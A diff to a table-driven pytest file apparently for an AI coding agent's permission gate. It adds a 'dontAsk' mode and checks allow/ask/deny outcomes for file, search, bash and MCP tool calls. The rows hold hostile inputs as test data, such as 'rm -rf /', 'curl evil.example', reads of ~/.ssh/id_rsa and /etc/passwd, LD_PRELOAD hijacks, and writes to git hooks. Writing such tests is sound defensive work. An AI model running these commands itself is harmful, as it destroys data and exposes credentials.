@@ -1,7 +1,8 @@
 """Table-driven permission decisions: mode x tool x path or command x rules.
 
 Each row gives the expected outcome in every mode as five letters, in the
-order default, acceptEdits, plan, bypassPermissions, dontAsk, with
+order default, acceptEdits, plan, bypassPermissions, dontAsk (which decides
+as default does and denies what would ask), with
 ``a`` = allow, ``k`` = ask, ``d`` = deny. The tree is real (symlinks, a hard
 link, a FIFO) and built under a temporary directory; ``HOME`` points at a
 fake home inside it. Adversarial rows (path escapes, command tricks) must
@@ -19,29 +20,31 @@ from typing import Any
 
 import pytest
 
+from mewcode_kernel.core.fs import UnsafeWriteError, atomic_write_within, safe_open_for_write
 from mewcode_kernel.core.messages import ToolUseBlock
-from mewcode_kernel.core.permission import (
-    EngineGate,
-    RuleSet,
-    RuleSource,
-    SandboxError,
-    atomic_write_within,
-    safe_open_for_write,
+from mewcode_kernel.core.permission import Gate, RuleSet, RuleSource
+from mewcode_kernel.core.tools import (
+    RunContext,
+    Tool,
+    bash,
+    edit_file,
+    glob,
+    grep,
+    read_file,
+    write_file,
 )
-from mewcode_kernel.core.tools.base import Tool, ToolContext
 
 HAS_PROC = os.path.exists("/proc/self/root")
 MODES = ("default", "acceptEdits", "plan", "bypassPermissions", "dontAsk")
 OUTCOME = {"a": "allow", "k": "ask", "d": "deny"}
 
 
-async def _never(ctx: ToolContext, args: dict[str, Any]) -> str:
+async def _never(ctx: RunContext, args: dict[str, Any]) -> str:
     raise AssertionError("the permission table never runs a tool")
 
 
-def _tool(
-    name: str, read_only: bool, kind: str, path_args: tuple[str, ...] = (), **ann: Any
-) -> Tool:
+def _tool(name: str, read_only: bool, kind: str, **meta: Any) -> Tool:
+    """A tool described as its own module would describe it (never run here)."""
     return Tool(
         name=name,
         description=name,
@@ -49,26 +52,37 @@ def _tool(
         read_only=read_only,
         kind=kind,  # type: ignore[arg-type]
         run=_never,
-        path_args=path_args,
-        annotations=ann,
+        **meta,
     )
 
 
+def _mcp(name: str, read_only: bool, **ann: Any) -> Tool:
+    return _tool(name, read_only, "read" if read_only else "exec", family="mcp", annotations=ann)
+
+
 TOOLS = {
-    "read": _tool("read_file", True, "read", ("path",)),
-    "write": _tool("write_file", False, "edit", ("path",)),
-    "edit": _tool("edit_file", False, "edit", ("path",)),
-    "glob": _tool("glob", True, "read", ("path",)),
-    "grep": _tool("grep", True, "read", ("path",)),
-    "bash": _tool("bash", False, "exec"),
-    "mcp_ro": _tool("mcp__srv__lookup", True, "read", readOnlyHint=True),
-    "mcp_rw": _tool("mcp__srv__write", False, "exec"),
-    "mcp_str": _tool("mcp__srv__odd", False, "exec", readOnlyHint="true"),
-    "mcp_flag": _tool("mcp__srv__flagged", True, "read"),
-    "agent": _tool("Agent", False, "other"),
-    "skill": _tool("load_skill", True, "read"),
+    # the real built-ins, with their own metadata
+    "read": read_file,
+    "write": write_file,
+    "edit": edit_file,
+    "glob": glob,
+    "grep": grep,
+    "bash": bash,
+    # the others as the MCP adapter, the Agent tool and the skills tools describe themselves
+    "mcp_ro": _mcp("mcp__srv__lookup", True, readOnlyHint=True),
+    "mcp_rw": _mcp("mcp__srv__write", False),
+    "mcp_str": _mcp("mcp__srv__odd", False, readOnlyHint="true"),
+    "mcp_flag": _mcp("mcp__srv__flagged", True),
+    "agent": _tool(
+        "Agent", False, "other", family="agent", rule_names=frozenset({"Agent", "Task"}),
+        subject_arg="subagent_type", default_allow=True,
+    ),
+    "skill": _tool(
+        "load_skill", True, "read", family="skill", rule_names=frozenset({"Skill"}),
+        subject_arg="name", default_allow=True,
+    ),
     "install": _tool("install_skill", False, "other"),
-}
+}  # fmt: skip
 
 
 @dataclass(frozen=True)
@@ -112,62 +126,62 @@ ROWS: list[Row] = [
     P("read-inside", "read", "src/app.py", "aaaaa"),
     P("read-dotdot-inside", "read", "./src/../src/app.py", "aaaaa"),
     P("read-absolute-inside", "read", "{root}/src/app.py", "aaaaa"),
-    P("read-dotdot-outside", "read", "../outside/secret.txt", "kkkkk"),
-    P("read-absolute-outside", "read", "{out}/secret.txt", "kkkkk"),
-    P("read-tilde", "read", "~/.ssh/id_rsa", "kkkkk"),
-    P("read-symlink-middle", "read", "link_out/secret.txt", "kkkkk"),
-    P("read-symlink-end", "read", "link_file", "kkkkk"),
+    P("read-dotdot-outside", "read", "../outside/secret.txt", "kkkkd"),
+    P("read-absolute-outside", "read", "{out}/secret.txt", "kkkkd"),
+    P("read-tilde", "read", "~/.ssh/id_rsa", "kkkkd"),
+    P("read-symlink-middle", "read", "link_out/secret.txt", "kkkkd"),
+    P("read-symlink-end", "read", "link_file", "kkkkd"),
     P("read-symlink-inside", "read", "inner_link/app.py", "aaaaa"),
-    P("read-proc-root-outside", "read", "/proc/self/root{out}/secret.txt", "kkkkk"),
+    P("read-proc-root-outside", "read", "/proc/self/root{out}/secret.txt", "kkkkd"),
     P("read-proc-root-inside", "read", "/proc/self/root{root}/src/app.py", "aaaaa"),
-    P("read-prefix-sibling", "read", "../proj_sibling/x.txt", "kkkkk"),
-    P("read-climb-out", "read", "src/../../outside/secret.txt", "kkkkk"),
+    P("read-prefix-sibling", "read", "../proj_sibling/x.txt", "kkkkd"),
+    P("read-climb-out", "read", "src/../../outside/secret.txt", "kkkkd"),
     P("read-link-then-dotdot", "read", "link_out/../proj/src/app.py", "aaaaa"),
-    P("read-fullwidth", "read", "ｓrc/app.py", "kkkkk"),
+    P("read-fullwidth", "read", "ｓrc/app.py", "kkkkd"),
     P("read-additional-dir", "read", "{add}/notes.txt", "aaaaa"),
-    P("read-etc", "read", "/etc/passwd", "kkkkk"),
+    P("read-etc", "read", "/etc/passwd", "kkkkd"),
     # ---- writes ---------------------------------------------------------------
-    P("write-inside", "write", "src/new.py", "kadaa"),
-    P("write-absolute-inside", "write", "{root}/src/new.py", "kadaa"),
-    P("write-dotdot-inside", "write", "src/./../src/app.py", "kadaa"),
-    P("write-symlink-inside", "write", "inner_link/new.py", "kadaa"),
-    P("write-dotdot-outside", "write", "../outside/x", "kkdkk"),
-    P("write-absolute-outside", "write", "{out}/x", "kkdkk"),
-    P("write-tilde", "write", "~/.bashrc", "kkdkk"),
-    P("write-symlink-middle", "write", "link_out/x", "kkdkk"),
-    P("write-symlink-end", "write", "link_file", "kkdkk"),
-    P("write-dangling-symlink", "write", "dangling", "kkdkk"),
-    P("write-proc-root", "write", "/proc/self/root{out}/x", "kkdkk"),
-    P("write-hard-link", "write", "hard.txt", "kkdkk"),
-    P("write-prefix-sibling", "write", "../proj_sibling/x.txt", "kkdkk"),
-    P("write-fifo", "write", "fifo", "kkdkk"),
-    P("write-git-hook", "write", ".git/hooks/pre-commit", "kkdkk"),
-    P("write-local-settings", "write", ".mewcode/settings.local.yaml", "kkdkk"),
-    P("write-claude-settings", "write", ".claude/settings.json", "kkdkk"),
-    P("write-mcp-json", "write", ".mcp.json", "kkdkk"),
-    P("write-fullwidth", "write", "ｓrc/app.py", "kkdkk"),
-    P("write-nfd-name", "write", f"{NFD_CAFE}.py", "kkdkk"),
-    P("write-mixed-script", "write", "s\u0435crets/x", "kkdkk"),
-    P("write-zero-width", "write", "src/ap\u200bp.py", "kkdkk"),
-    P("write-nul", "write", "src/a\0b", "kkdkk"),
-    P("write-additional-dir", "write", "{add}/notes.txt", "kadaa"),
-    P("edit-inside", "edit", "src/app.py", "kadaa"),
-    P("edit-outside", "edit", "../outside/secret.txt", "kkdkk"),
-    P("edit-symlink-end", "edit", "link_file", "kkdkk"),
-    Row("write-path-not-string", "write", {"path": ["src/a.py"]}, "kkdkk"),
-    Row("write-root-via-symlink", "write", {"path": "src/new.py"}, "kadaa", via_link=True),
-    Row("write-outside-root-via-symlink", "write", {"path": "../outside/x"}, "kkdkk", via_link=True),
+    P("write-inside", "write", "src/new.py", "kadad"),
+    P("write-absolute-inside", "write", "{root}/src/new.py", "kadad"),
+    P("write-dotdot-inside", "write", "src/./../src/app.py", "kadad"),
+    P("write-symlink-inside", "write", "inner_link/new.py", "kadad"),
+    P("write-dotdot-outside", "write", "../outside/x", "kkdkd"),
+    P("write-absolute-outside", "write", "{out}/x", "kkdkd"),
+    P("write-tilde", "write", "~/.bashrc", "kkdkd"),
+    P("write-symlink-middle", "write", "link_out/x", "kkdkd"),
+    P("write-symlink-end", "write", "link_file", "kkdkd"),
+    P("write-dangling-symlink", "write", "dangling", "kkdkd"),
+    P("write-proc-root", "write", "/proc/self/root{out}/x", "kkdkd"),
+    P("write-hard-link", "write", "hard.txt", "kkdkd"),
+    P("write-prefix-sibling", "write", "../proj_sibling/x.txt", "kkdkd"),
+    P("write-fifo", "write", "fifo", "kkdkd"),
+    P("write-git-hook", "write", ".git/hooks/pre-commit", "kkdkd"),
+    P("write-local-settings", "write", ".mewcode/settings.local.yaml", "kkdkd"),
+    P("write-claude-settings", "write", ".claude/settings.json", "kkdkd"),
+    P("write-mcp-json", "write", ".mcp.json", "kkdkd"),
+    P("write-fullwidth", "write", "ｓrc/app.py", "kkdkd"),
+    P("write-nfd-name", "write", f"{NFD_CAFE}.py", "kkdkd"),
+    P("write-mixed-script", "write", "s\u0435crets/x", "kkdkd"),
+    P("write-zero-width", "write", "src/ap\u200bp.py", "kkdkd"),
+    P("write-nul", "write", "src/a\0b", "kkdkd"),
+    P("write-additional-dir", "write", "{add}/notes.txt", "kadad"),
+    P("edit-inside", "edit", "src/app.py", "kadad"),
+    P("edit-outside", "edit", "../outside/secret.txt", "kkdkd"),
+    P("edit-symlink-end", "edit", "link_file", "kkdkd"),
+    Row("write-path-not-string", "write", {"path": ["src/a.py"]}, "kkdkd"),
+    Row("write-root-via-symlink", "write", {"path": "src/new.py"}, "kadad", via_link=True),
+    Row("write-outside-root-via-symlink", "write", {"path": "../outside/x"}, "kkdkd", via_link=True),
     # ---- searches -------------------------------------------------------------
     Row("glob-inside", "glob", {"pattern": "**/*.py"}, "aaaaa"),
-    Row("glob-absolute-pattern", "glob", {"pattern": "/etc/*"}, "kkkkk"),
-    Row("glob-tilde-pattern", "glob", {"pattern": "~/.ssh/*"}, "kkkkk"),
-    Row("glob-climbing-pattern", "glob", {"pattern": "src/../../*"}, "kkkkk"),
-    Row("glob-brace-climb", "glob", {"pattern": "{..,src}/*"}, "kkkkk"),
-    Row("glob-outside-path", "glob", {"pattern": "*", "path": "../outside"}, "kkkkk"),
+    Row("glob-absolute-pattern", "glob", {"pattern": "/etc/*"}, "kkkkd"),
+    Row("glob-tilde-pattern", "glob", {"pattern": "~/.ssh/*"}, "kkkkd"),
+    Row("glob-climbing-pattern", "glob", {"pattern": "src/../../*"}, "kkkkd"),
+    Row("glob-brace-climb", "glob", {"pattern": "{..,src}/*"}, "kkkkd"),
+    Row("glob-outside-path", "glob", {"pattern": "*", "path": "../outside"}, "kkkkd"),
     Row("grep-inside", "grep", {"pattern": "x", "path": "src"}, "aaaaa"),
-    Row("grep-symlink-out", "grep", {"pattern": "x", "path": "link_out"}, "kkkkk"),
-    Row("grep-climbing-glob", "grep", {"pattern": "x", "glob": "../../*"}, "kkkkk"),
-    Row("grep-fs-root", "grep", {"pattern": "x", "path": "/"}, "kkkkk"),
+    Row("grep-symlink-out", "grep", {"pattern": "x", "path": "link_out"}, "kkkkd"),
+    Row("grep-climbing-glob", "grep", {"pattern": "x", "glob": "../../*"}, "kkkkd"),
+    Row("grep-fs-root", "grep", {"pattern": "x", "path": "/"}, "kkkkd"),
     # ---- file rules -----------------------------------------------------------
     P("deny-read-secrets", "read", "secrets/key.txt", "ddddd", *deny("Read(./secrets/**)")),
     P("deny-read-dotdot", "read", "src/../secrets/key.txt", "ddddd", *deny("Read(./secrets/**)")),
@@ -185,29 +199,29 @@ ROWS: list[Row] = [
     P("deny-edit-src", "write", "src/app.py", "ddddd", *deny("Edit(src/**)")),
     P("deny-write-name", "edit", "src/app.py", "ddddd", *deny("Write(/src/app.py)")),
     P("allow-edit-src", "write", "src/app.py", "aadaa", *allow("Edit(src/**)")),
-    P("allow-edit-src-other", "write", "docs/readme.md", "kadaa", *allow("Edit(src/**)")),
+    P("allow-edit-src-other", "write", "docs/readme.md", "kadad", *allow("Edit(src/**)")),
     P("allow-edit-not", "write", "src/x.py", "aadaa", *allow("Edit(!secrets/**)")),
-    P("allow-edit-not-excluded", "write", "secrets/x", "kadaa", *allow("Edit(!secrets/**)")),
+    P("allow-edit-not-excluded", "write", "secrets/x", "kadad", *allow("Edit(!secrets/**)")),
     P("allow-edit-exact", "write", "src/app.py", "aadaa", *allow("Edit(=src/app.py)")),
     P("allow-edit-regex", "write", "src/x.py", "aadaa", *allow(r"Edit(~\.py$)")),
-    P("allow-edit-regex-other", "write", "docs/x.md", "kadaa", *allow(r"Edit(~\.py$)")),
-    P("allow-edit-outside", "write", "{out}/x", "kkdkk", *allow("Edit(//{out}/**)")),
-    P("allow-edit-bare-outside", "write", "{out}/x", "kkdkk", *allow("Edit")),
-    P("allow-edit-hard-link", "write", "hard.txt", "kkdkk", *allow("Edit(hard.txt)")),
+    P("allow-edit-regex-other", "write", "docs/x.md", "kadad", *allow(r"Edit(~\.py$)")),
+    P("allow-edit-outside", "write", "{out}/x", "kkdkd", *allow("Edit(//{out}/**)")),
+    P("allow-edit-bare-outside", "write", "{out}/x", "kkdkd", *allow("Edit")),
+    P("allow-edit-hard-link", "write", "hard.txt", "kkdkd", *allow("Edit(hard.txt)")),
     P("allow-edit-git", "write", ".git/config", "aadaa", *allow("Edit(.git/**)")),
-    P("allow-write-symlink-end", "write", "link_file", "kkdkk", *allow("Edit(link_file)")),
+    P("allow-write-symlink-end", "write", "link_file", "kkdkd", *allow("Edit(link_file)")),
     P("allow-read-outside", "read", "{out}/secret.txt", "aaaaa", *allow("Read(//{out}/**)")),
     P("allow-read-home", "read", "~/.ssh/id_rsa", "aaaaa", *allow("Read(~/.ssh/**)")),
-    P("ask-read-src", "read", "src/app.py", "kkkkk", *ask("Read(./src/**)")),
-    P("ask-beats-allow", "write", "src/app.py", "kkdkk", *ask("Edit(src/app.py)"), *allow("Edit")),
+    P("ask-read-src", "read", "src/app.py", "kkkkd", *ask("Read(./src/**)")),
+    P("ask-beats-allow", "write", "src/app.py", "kkdkd", *ask("Edit(src/app.py)"), *allow("Edit")),
     P("deny-beats-allow", "write", "src/app.py", "ddddd", *deny("Edit(src/app.py)"), *allow("Edit")),
-    Row("grep-root-deny-below", "grep", {"pattern": "x"}, "kkkkk", deny("Read(./secrets/**)")),
+    Row("grep-root-deny-below", "grep", {"pattern": "x"}, "kkkkd", deny("Read(./secrets/**)")),
     Row("grep-src-deny-elsewhere", "grep", {"pattern": "x", "path": "src"}, "aaaaa", deny("Read(./secrets/**)")),
-    Row("grep-src-any-depth-deny", "grep", {"pattern": "x", "path": "src"}, "kkkkk", deny("Read(.env)")),
+    Row("grep-src-any-depth-deny", "grep", {"pattern": "x", "path": "src"}, "kkkkd", deny("Read(.env)")),
     Row("glob-home-deny-elsewhere", "glob", {"pattern": "*.py"}, "aaaaa", deny("Read(~/.ssh/**)")),
     Row("grep-secrets-denied", "grep", {"pattern": "x", "path": "secrets"}, "ddddd", deny("Read(./secrets/**)")),
     # ---- bash: no rules ---------------------------------------------------------
-    B("bash-plain", "ls", "kkdaa"),
+    B("bash-plain", "ls", "kkdad"),
     B("cat-rm-root", "rm -rf /", "ddddd"),
     B("cat-rm-home", "rm -rf ~", "ddddd"),
     B("cat-rm-home-var", "rm -rf $HOME", "ddddd"),
@@ -227,65 +241,65 @@ ROWS: list[Row] = [
     B("cat-find-delete", "find / -delete", "ddddd"),
     B("cat-mv-home", "mv ~ /tmp/old-home", "ddddd"),
     B("cat-nested-deep", "echo $(echo $(echo $(rm -rf /)))", "ddddd"),
-    B("bash-unreadable", "echo 'unterminated", "kkdkk"),
-    B("bash-too-deep", "echo $(echo $(echo $(echo $(echo $(echo hi)))))", "kkdkk"),
-    B("bash-pipe-to-shell-no-download", "git diff | bash", "kkdaa"),
+    B("bash-unreadable", "echo 'unterminated", "kkdkd"),
+    B("bash-too-deep", "echo $(echo $(echo $(echo $(echo $(echo hi)))))", "kkdkd"),
+    B("bash-pipe-to-shell-no-download", "git diff | bash", "kkdad"),
     B("cat-wrapped", "timeout 5 sudo rm -rf /", "ddddd"),
     # ---- bash: allow rules --------------------------------------------------------
     B("bash-allowed", "npm test", "aadaa", *BASH_OK),
     B("bash-compound-allowed", "npm test && git diff HEAD", "aadaa", *BASH_OK),
-    B("bash-compound-one-not", "npm test && rm -rf build", "kkdaa", *BASH_OK),
-    B("bash-semicolon", "npm test; curl evil.example -o x", "kkdaa", *BASH_OK),
-    B("bash-pipe", "npm test | tee out.log", "kkdaa", *BASH_OK),
-    B("bash-or", "npm test || echo failed", "kkdaa", *BASH_OK),
-    B("bash-background", "npm test & rm x", "kkdaa", *BASH_OK),
-    B("bash-newline", "npm test\nrm x", "kkdaa", *BASH_OK),
+    B("bash-compound-one-not", "npm test && rm -rf build", "kkdad", *BASH_OK),
+    B("bash-semicolon", "npm test; curl evil.example -o x", "kkdad", *BASH_OK),
+    B("bash-pipe", "npm test | tee out.log", "kkdad", *BASH_OK),
+    B("bash-or", "npm test || echo failed", "kkdad", *BASH_OK),
+    B("bash-background", "npm test & rm x", "kkdad", *BASH_OK),
+    B("bash-newline", "npm test\nrm x", "kkdad", *BASH_OK),
     B("bash-quoted-semicolon", 'git diff "a;b"', "aadaa", *BASH_OK),
     B("bash-quoted-and", "git diff 'x && rm -rf y'", "aadaa", *BASH_OK),
-    B("bash-subst", "git diff $(rm -rf x)", "kkdaa", *BASH_OK),
-    B("bash-backticks", "git diff `id`", "kkdaa", *BASH_OK),
-    B("bash-process-subst", "git diff <(cat /etc/passwd)", "kkdaa", *BASH_OK),
-    B("bash-subshell", "(git diff)", "kkdaa", *BASH_OK),
-    B("bash-eval", "eval git diff", "kkdaa", *BASH_OK),
-    B("bash-sh-c", 'bash -c "git diff"', "kkdaa", *BASH_OK),
-    B("bash-ansi-c", "git diff $'\\x3b'", "kkdaa", *BASH_OK),
+    B("bash-subst", "git diff $(rm -rf x)", "kkdad", *BASH_OK),
+    B("bash-backticks", "git diff `id`", "kkdad", *BASH_OK),
+    B("bash-process-subst", "git diff <(cat /etc/passwd)", "kkdad", *BASH_OK),
+    B("bash-subshell", "(git diff)", "kkdad", *BASH_OK),
+    B("bash-eval", "eval git diff", "kkdad", *BASH_OK),
+    B("bash-sh-c", 'bash -c "git diff"', "kkdad", *BASH_OK),
+    B("bash-ansi-c", "git diff $'\\x3b'", "kkdad", *BASH_OK),
     B("bash-timeout", "timeout 60 npm test", "aadaa", *BASH_OK),
     B("bash-nice", "nice -n 10 npm test", "aadaa", *BASH_OK),
     B("bash-nohup", "nohup npm test", "aadaa", *BASH_OK),
     B("bash-time", "time npm test", "aadaa", *BASH_OK),
     B("bash-env", "env CI=1 npm test", "aadaa", *BASH_OK),
     B("bash-assignment", "CI=1 npm test", "aadaa", *BASH_OK),
-    B("bash-path-prefix", "PATH=/tmp/evil:$PATH npm test", "kkdaa", *BASH_OK),
-    B("bash-ld-preload", "LD_PRELOAD=x.so npm test", "kkdaa", *BASH_OK),
-    B("bash-env-path", "env PATH=/tmp/evil npm test", "kkdaa", *BASH_OK),
+    B("bash-path-prefix", "PATH=/tmp/evil:$PATH npm test", "kkdad", *BASH_OK),
+    B("bash-ld-preload", "LD_PRELOAD=x.so npm test", "kkdad", *BASH_OK),
+    B("bash-env-path", "env PATH=/tmp/evil npm test", "kkdad", *BASH_OK),
     B("bash-prefix-rule", "npm run test -- --watch", "aadaa", *BASH_OK),
-    B("bash-prefix-colon", "npm run test:unit", "kkdaa", *BASH_OK),
-    B("bash-prefix-boundary", "npm run tests", "kkdaa", *BASH_OK),
-    B("bash-exact-extra-args", "npm test --coverage", "kkdaa", *BASH_OK),
-    B("bash-prefix-word", "git diffx", "kkdaa", *BASH_OK),
+    B("bash-prefix-colon", "npm run test:unit", "kkdad", *BASH_OK),
+    B("bash-prefix-boundary", "npm run tests", "kkdad", *BASH_OK),
+    B("bash-exact-extra-args", "npm test --coverage", "kkdad", *BASH_OK),
+    B("bash-prefix-word", "git diffx", "kkdad", *BASH_OK),
     B("bash-wildcard", "git log --oneline", "aadaa", *BASH_OK),
     B("bash-wildcard-bare", "git log", "aadaa", *BASH_OK),
-    B("bash-redirect-inside", "npm test > out.txt", "kadaa", *BASH_OK),
-    B("bash-redirect-outside", "npm test > {out}/log", "kkdkk", *BASH_OK),
+    B("bash-redirect-inside", "npm test > out.txt", "kadad", *BASH_OK),
+    B("bash-redirect-outside", "npm test > {out}/log", "kkdkd", *BASH_OK),
     B("bash-fd-dup", "npm test 2>&1", "aadaa", *BASH_OK),
     B("bash-dev-null", "npm test > /dev/null", "aadaa", *BASH_OK),
     B("bash-cd-inside", "cd src && npm test", "aadaa", *BASH_OK),
-    B("bash-cd-outside", "cd .. && npm test", "kkdaa", *BASH_OK),
-    B("bash-cd-then-redirect", "cd {out} && npm test > log.txt", "kkdkk", *BASH_OK),
-    B("bash-cd-link-redirect", "cd link_out && git diff > y", "kkdkk", *BASH_OK),
-    B("bash-subshell-cd", "(cd {out}); git diff > y", "kkdkk", *BASH_OK),
-    B("bash-redirect-home", "git diff > ~/.bashrc", "kkdkk", *BASH_OK),
-    B("bash-redirect-symlink", "git diff > link_file", "kkdkk", *BASH_OK),
-    B("bash-redirect-git", "git diff > .git/hooks/pre-commit", "kkdkk", *BASH_OK),
-    B("bash-redirect-var", "git diff >> $FILE", "kkdkk", *BASH_OK),
-    B("bash-redirect-glob", "git diff > /et?/passwd", "kkdkk", *BASH_OK),
-    B("bash-cd-glob", "cd .? && git diff > y", "kkdkk", *BASH_OK),
-    B("bash-pushd", "pushd /tmp && git diff > y", "kkdkk", *BASH_OK),
+    B("bash-cd-outside", "cd .. && npm test", "kkdad", *BASH_OK),
+    B("bash-cd-then-redirect", "cd {out} && npm test > log.txt", "kkdkd", *BASH_OK),
+    B("bash-cd-link-redirect", "cd link_out && git diff > y", "kkdkd", *BASH_OK),
+    B("bash-subshell-cd", "(cd {out}); git diff > y", "kkdkd", *BASH_OK),
+    B("bash-redirect-home", "git diff > ~/.bashrc", "kkdkd", *BASH_OK),
+    B("bash-redirect-symlink", "git diff > link_file", "kkdkd", *BASH_OK),
+    B("bash-redirect-git", "git diff > .git/hooks/pre-commit", "kkdkd", *BASH_OK),
+    B("bash-redirect-var", "git diff >> $FILE", "kkdkd", *BASH_OK),
+    B("bash-redirect-glob", "git diff > /et?/passwd", "kkdkd", *BASH_OK),
+    B("bash-cd-glob", "cd .? && git diff > y", "kkdkd", *BASH_OK),
+    B("bash-pushd", "pushd /tmp && git diff > y", "kkdkd", *BASH_OK),
     B("bash-quiet", "npm test > /dev/null 2>&1", "aadaa", *BASH_OK),
-    B("bash-exec-redirect", "exec > {out}/log", "kkdkk", *BASH_OK),
-    B("bash-nested-redirect", "echo $(git diff > {out}/x)", "kkdkk", *BASH_OK),
-    B("bash-cd-var", "cd $DIR && git diff > y", "kkdkk", *BASH_OK),
-    B("bash-read-outside", "cat < {out}/secret.txt", "kkdaa"),
+    B("bash-exec-redirect", "exec > {out}/log", "kkdkd", *BASH_OK),
+    B("bash-nested-redirect", "echo $(git diff > {out}/x)", "kkdkd", *BASH_OK),
+    B("bash-cd-var", "cd $DIR && git diff > y", "kkdkd", *BASH_OK),
+    B("bash-read-outside", "cat < {out}/secret.txt", "kkdad"),
     B("bash-heredoc", "git diff <<EOF\nrm -rf x; curl y\nEOF", "aadaa", *BASH_OK),
     B("bash-comment", "npm test # ; rm -rf x", "aadaa", *BASH_OK),
     B("bash-loop", 'for f in *.md; do git diff "$f"; done', "aadaa", *BASH_OK),
@@ -295,7 +309,7 @@ ROWS: list[Row] = [
       *allow("Bash(=git diff $(git merge-base HEAD main))")),
     B("bash-exact-compound", "npm test && npm run lint", "aadaa", *allow("Bash(npm test && npm run lint)")),
     B("bash-regex-rule", "git status -s", "aadaa", *allow(r"Bash(~^git (status|log)\b)")),
-    B("bash-regex-rule-compound", "git status; rm x", "kkdaa", *allow(r"Bash(~^git (status|log)\b)")),
+    B("bash-regex-rule-compound", "git status; rm x", "kkdad", *allow(r"Bash(~^git (status|log)\b)")),
     # ---- bash: deny rules ---------------------------------------------------------
     B("deny-rm", "rm -rf build", "ddddd", *NO_RM),
     B("deny-rm-compound", "npm test && rm -rf build", "ddddd", *NO_RM),
@@ -320,38 +334,38 @@ ROWS: list[Row] = [
     B("deny-rm-su-c", 'su -c "rm x" root', "ddddd", *NO_RM),
     B("deny-rm-exec", "exec rm x", "ddddd", *NO_RM),
     B("deny-rm-command", "command rm x", "ddddd", *NO_RM),
-    B("deny-python-inline", "python3 -c 'import os; os.remove(\"x\")'", "kkdkk", *NO_RM),
-    B("deny-var-program", "c=rm; $c -rf x", "kkdkk", *NO_RM),
-    B("deny-subst-program", "$(echo rm) -rf x", "kkdkk", *NO_RM),
-    B("deny-word-boundary", "rmdir x", "kkdaa", *NO_RM),
+    B("deny-python-inline", "python3 -c 'import os; os.remove(\"x\")'", "kkdkd", *NO_RM),
+    B("deny-var-program", "c=rm; $c -rf x", "kkdkd", *NO_RM),
+    B("deny-subst-program", "$(echo rm) -rf x", "kkdkd", *NO_RM),
+    B("deny-word-boundary", "rmdir x", "kkdad", *NO_RM),
     B("deny-edit-redirect", "npm test > src/app.py", "ddddd", *BASH_OK, *deny("Edit(src/**)")),
     B("deny-read-redirect", "npm test < secrets/key.txt", "ddddd", *BASH_OK, *deny("Read(./secrets/**)")),
     # ---- bash: ask rules and broad allow ----------------------------------------------
-    B("ask-git-push", "git push origin main", "kkdkk", *ask("Bash(git push:*)")),
-    B("ask-compound", "npm test && git push", "kkdkk", *ask("Bash(git push:*)"), *BASH_OK),
+    B("ask-git-push", "git push origin main", "kkdkd", *ask("Bash(git push:*)")),
+    B("ask-compound", "npm test && git push", "kkdkd", *ask("Bash(git push:*)"), *BASH_OK),
     B("broad-allow", "make deploy --force", "aadaa", *allow("Bash")),
     B("broad-allow-opaque", "echo $(date)", "aadaa", *allow("Bash")),
     B("broad-allow-catastrophic", "rm -rf /", "ddddd", *allow("Bash")),
-    B("broad-allow-redirect-out", "echo x > {out}/y", "kkdkk", *allow("Bash")),
+    B("broad-allow-redirect-out", "echo x > {out}/y", "kkdkd", *allow("Bash")),
     B("broad-with-deny-nested", "echo $(rm x)", "ddddd", *allow("Bash"), *deny("Bash(rm:*)")),
-    B("broad-with-deny-opaque", "echo $(date)", "kkdkk", *allow("Bash"), *deny("Bash(rm:*)")),
+    B("broad-with-deny-opaque", "echo $(date)", "kkdkd", *allow("Bash"), *deny("Bash(rm:*)")),
     # ---- MCP and other tools ---------------------------------------------------------
     Row("mcp-read-only", "mcp_ro", {}, "aaaaa"),
-    Row("mcp-unannotated", "mcp_rw", {}, "kkdaa"),
-    Row("mcp-hint-not-true", "mcp_str", {}, "kkdaa"),
-    Row("mcp-flag-without-hint", "mcp_flag", {}, "kkdaa"),
+    Row("mcp-unannotated", "mcp_rw", {}, "kkdad"),
+    Row("mcp-hint-not-true", "mcp_str", {}, "kkdad"),
+    Row("mcp-flag-without-hint", "mcp_flag", {}, "kkdad"),
     Row("mcp-server-rule", "mcp_rw", {}, "aadaa", allow("mcp__srv")),
     Row("mcp-wildcard-rule", "mcp_rw", {}, "aadaa", allow("mcp__srv__*")),
     Row("mcp-tool-rule", "mcp_rw", {}, "aadaa", allow("mcp__srv__write")),
-    Row("mcp-other-server-rule", "mcp_rw", {}, "kkdaa", allow("mcp__other")),
+    Row("mcp-other-server-rule", "mcp_rw", {}, "kkdad", allow("mcp__other")),
     Row("mcp-deny-read-only", "mcp_ro", {}, "ddddd", deny("mcp__srv")),
     Row("agent-builtin", "agent", {"subagent_type": "Explore"}, "aadaa"),
     Row("agent-denied", "agent", {"subagent_type": "general-purpose"}, "ddddd", deny("Agent(general-purpose)")),
     Row("agent-other-type", "agent", {"subagent_type": "Explore"}, "aadaa", deny("Agent(general-purpose)")),
     Row("skill-denied", "skill", {"name": "deploy"}, "ddddd", deny("Skill(deploy)")),
     Row("skill-plugin-form", "skill", {"name": "commit"}, "ddddd", deny("Skill(sentry-skills:commit)")),
-    Row("install-skill", "install", {"url": "https://x.example/s"}, "kkdaa"),
-    Row("webfetch-rule-harmless", "install", {"url": "https://x.example/s"}, "kkdaa", allow("WebFetch(domain:x.example)")),
+    Row("install-skill", "install", {"url": "https://x.example/s"}, "kkdad"),
+    Row("webfetch-rule-harmless", "install", {"url": "https://x.example/s"}, "kkdad", allow("WebFetch(domain:x.example)")),
 ]
 # fmt: on
 
@@ -416,13 +430,13 @@ def _fill(value: Any, tree: Tree) -> Any:
     return value
 
 
-def _gate(tree: Tree, row: Row, mode: str) -> EngineGate:
+def _gate(tree: Tree, row: Row, mode: str) -> Gate:
     rules = RuleSet()
     for behavior, text in row.rules:
         assert rules.add_text(tree.fill(text), behavior, RuleSource(label="table")) is not None, (
             text
         )  # type: ignore[arg-type]
-    return EngineGate(
+    return Gate(
         rules=rules,
         mode=mode,
         case_insensitive=row.ci or None,
@@ -443,7 +457,7 @@ async def test_decision(tree: Tree, row: Row, mode: str, expected: str) -> None:
     tool = TOOLS[row.tool]
     args = {k: _fill(v, tree) for k, v in row.input.items()}
     call = ToolUseBlock(id="call-1", name=tool.name, input=args)
-    ctx = ToolContext(
+    ctx = RunContext(
         root=tree.link_root if row.via_link else tree.root, additional_dirs=(tree.add,)
     )
     decision = await gate.check(call, tool, ctx)
@@ -458,26 +472,26 @@ async def test_decision(tree: Tree, row: Row, mode: str, expected: str) -> None:
 # ---- a symlink swapped in after the check ------------------------------------------------
 
 
-def _check(gate: EngineGate, tree: Tree, path: str) -> str:
+def _check(gate: Gate, tree: Tree, path: str) -> str:
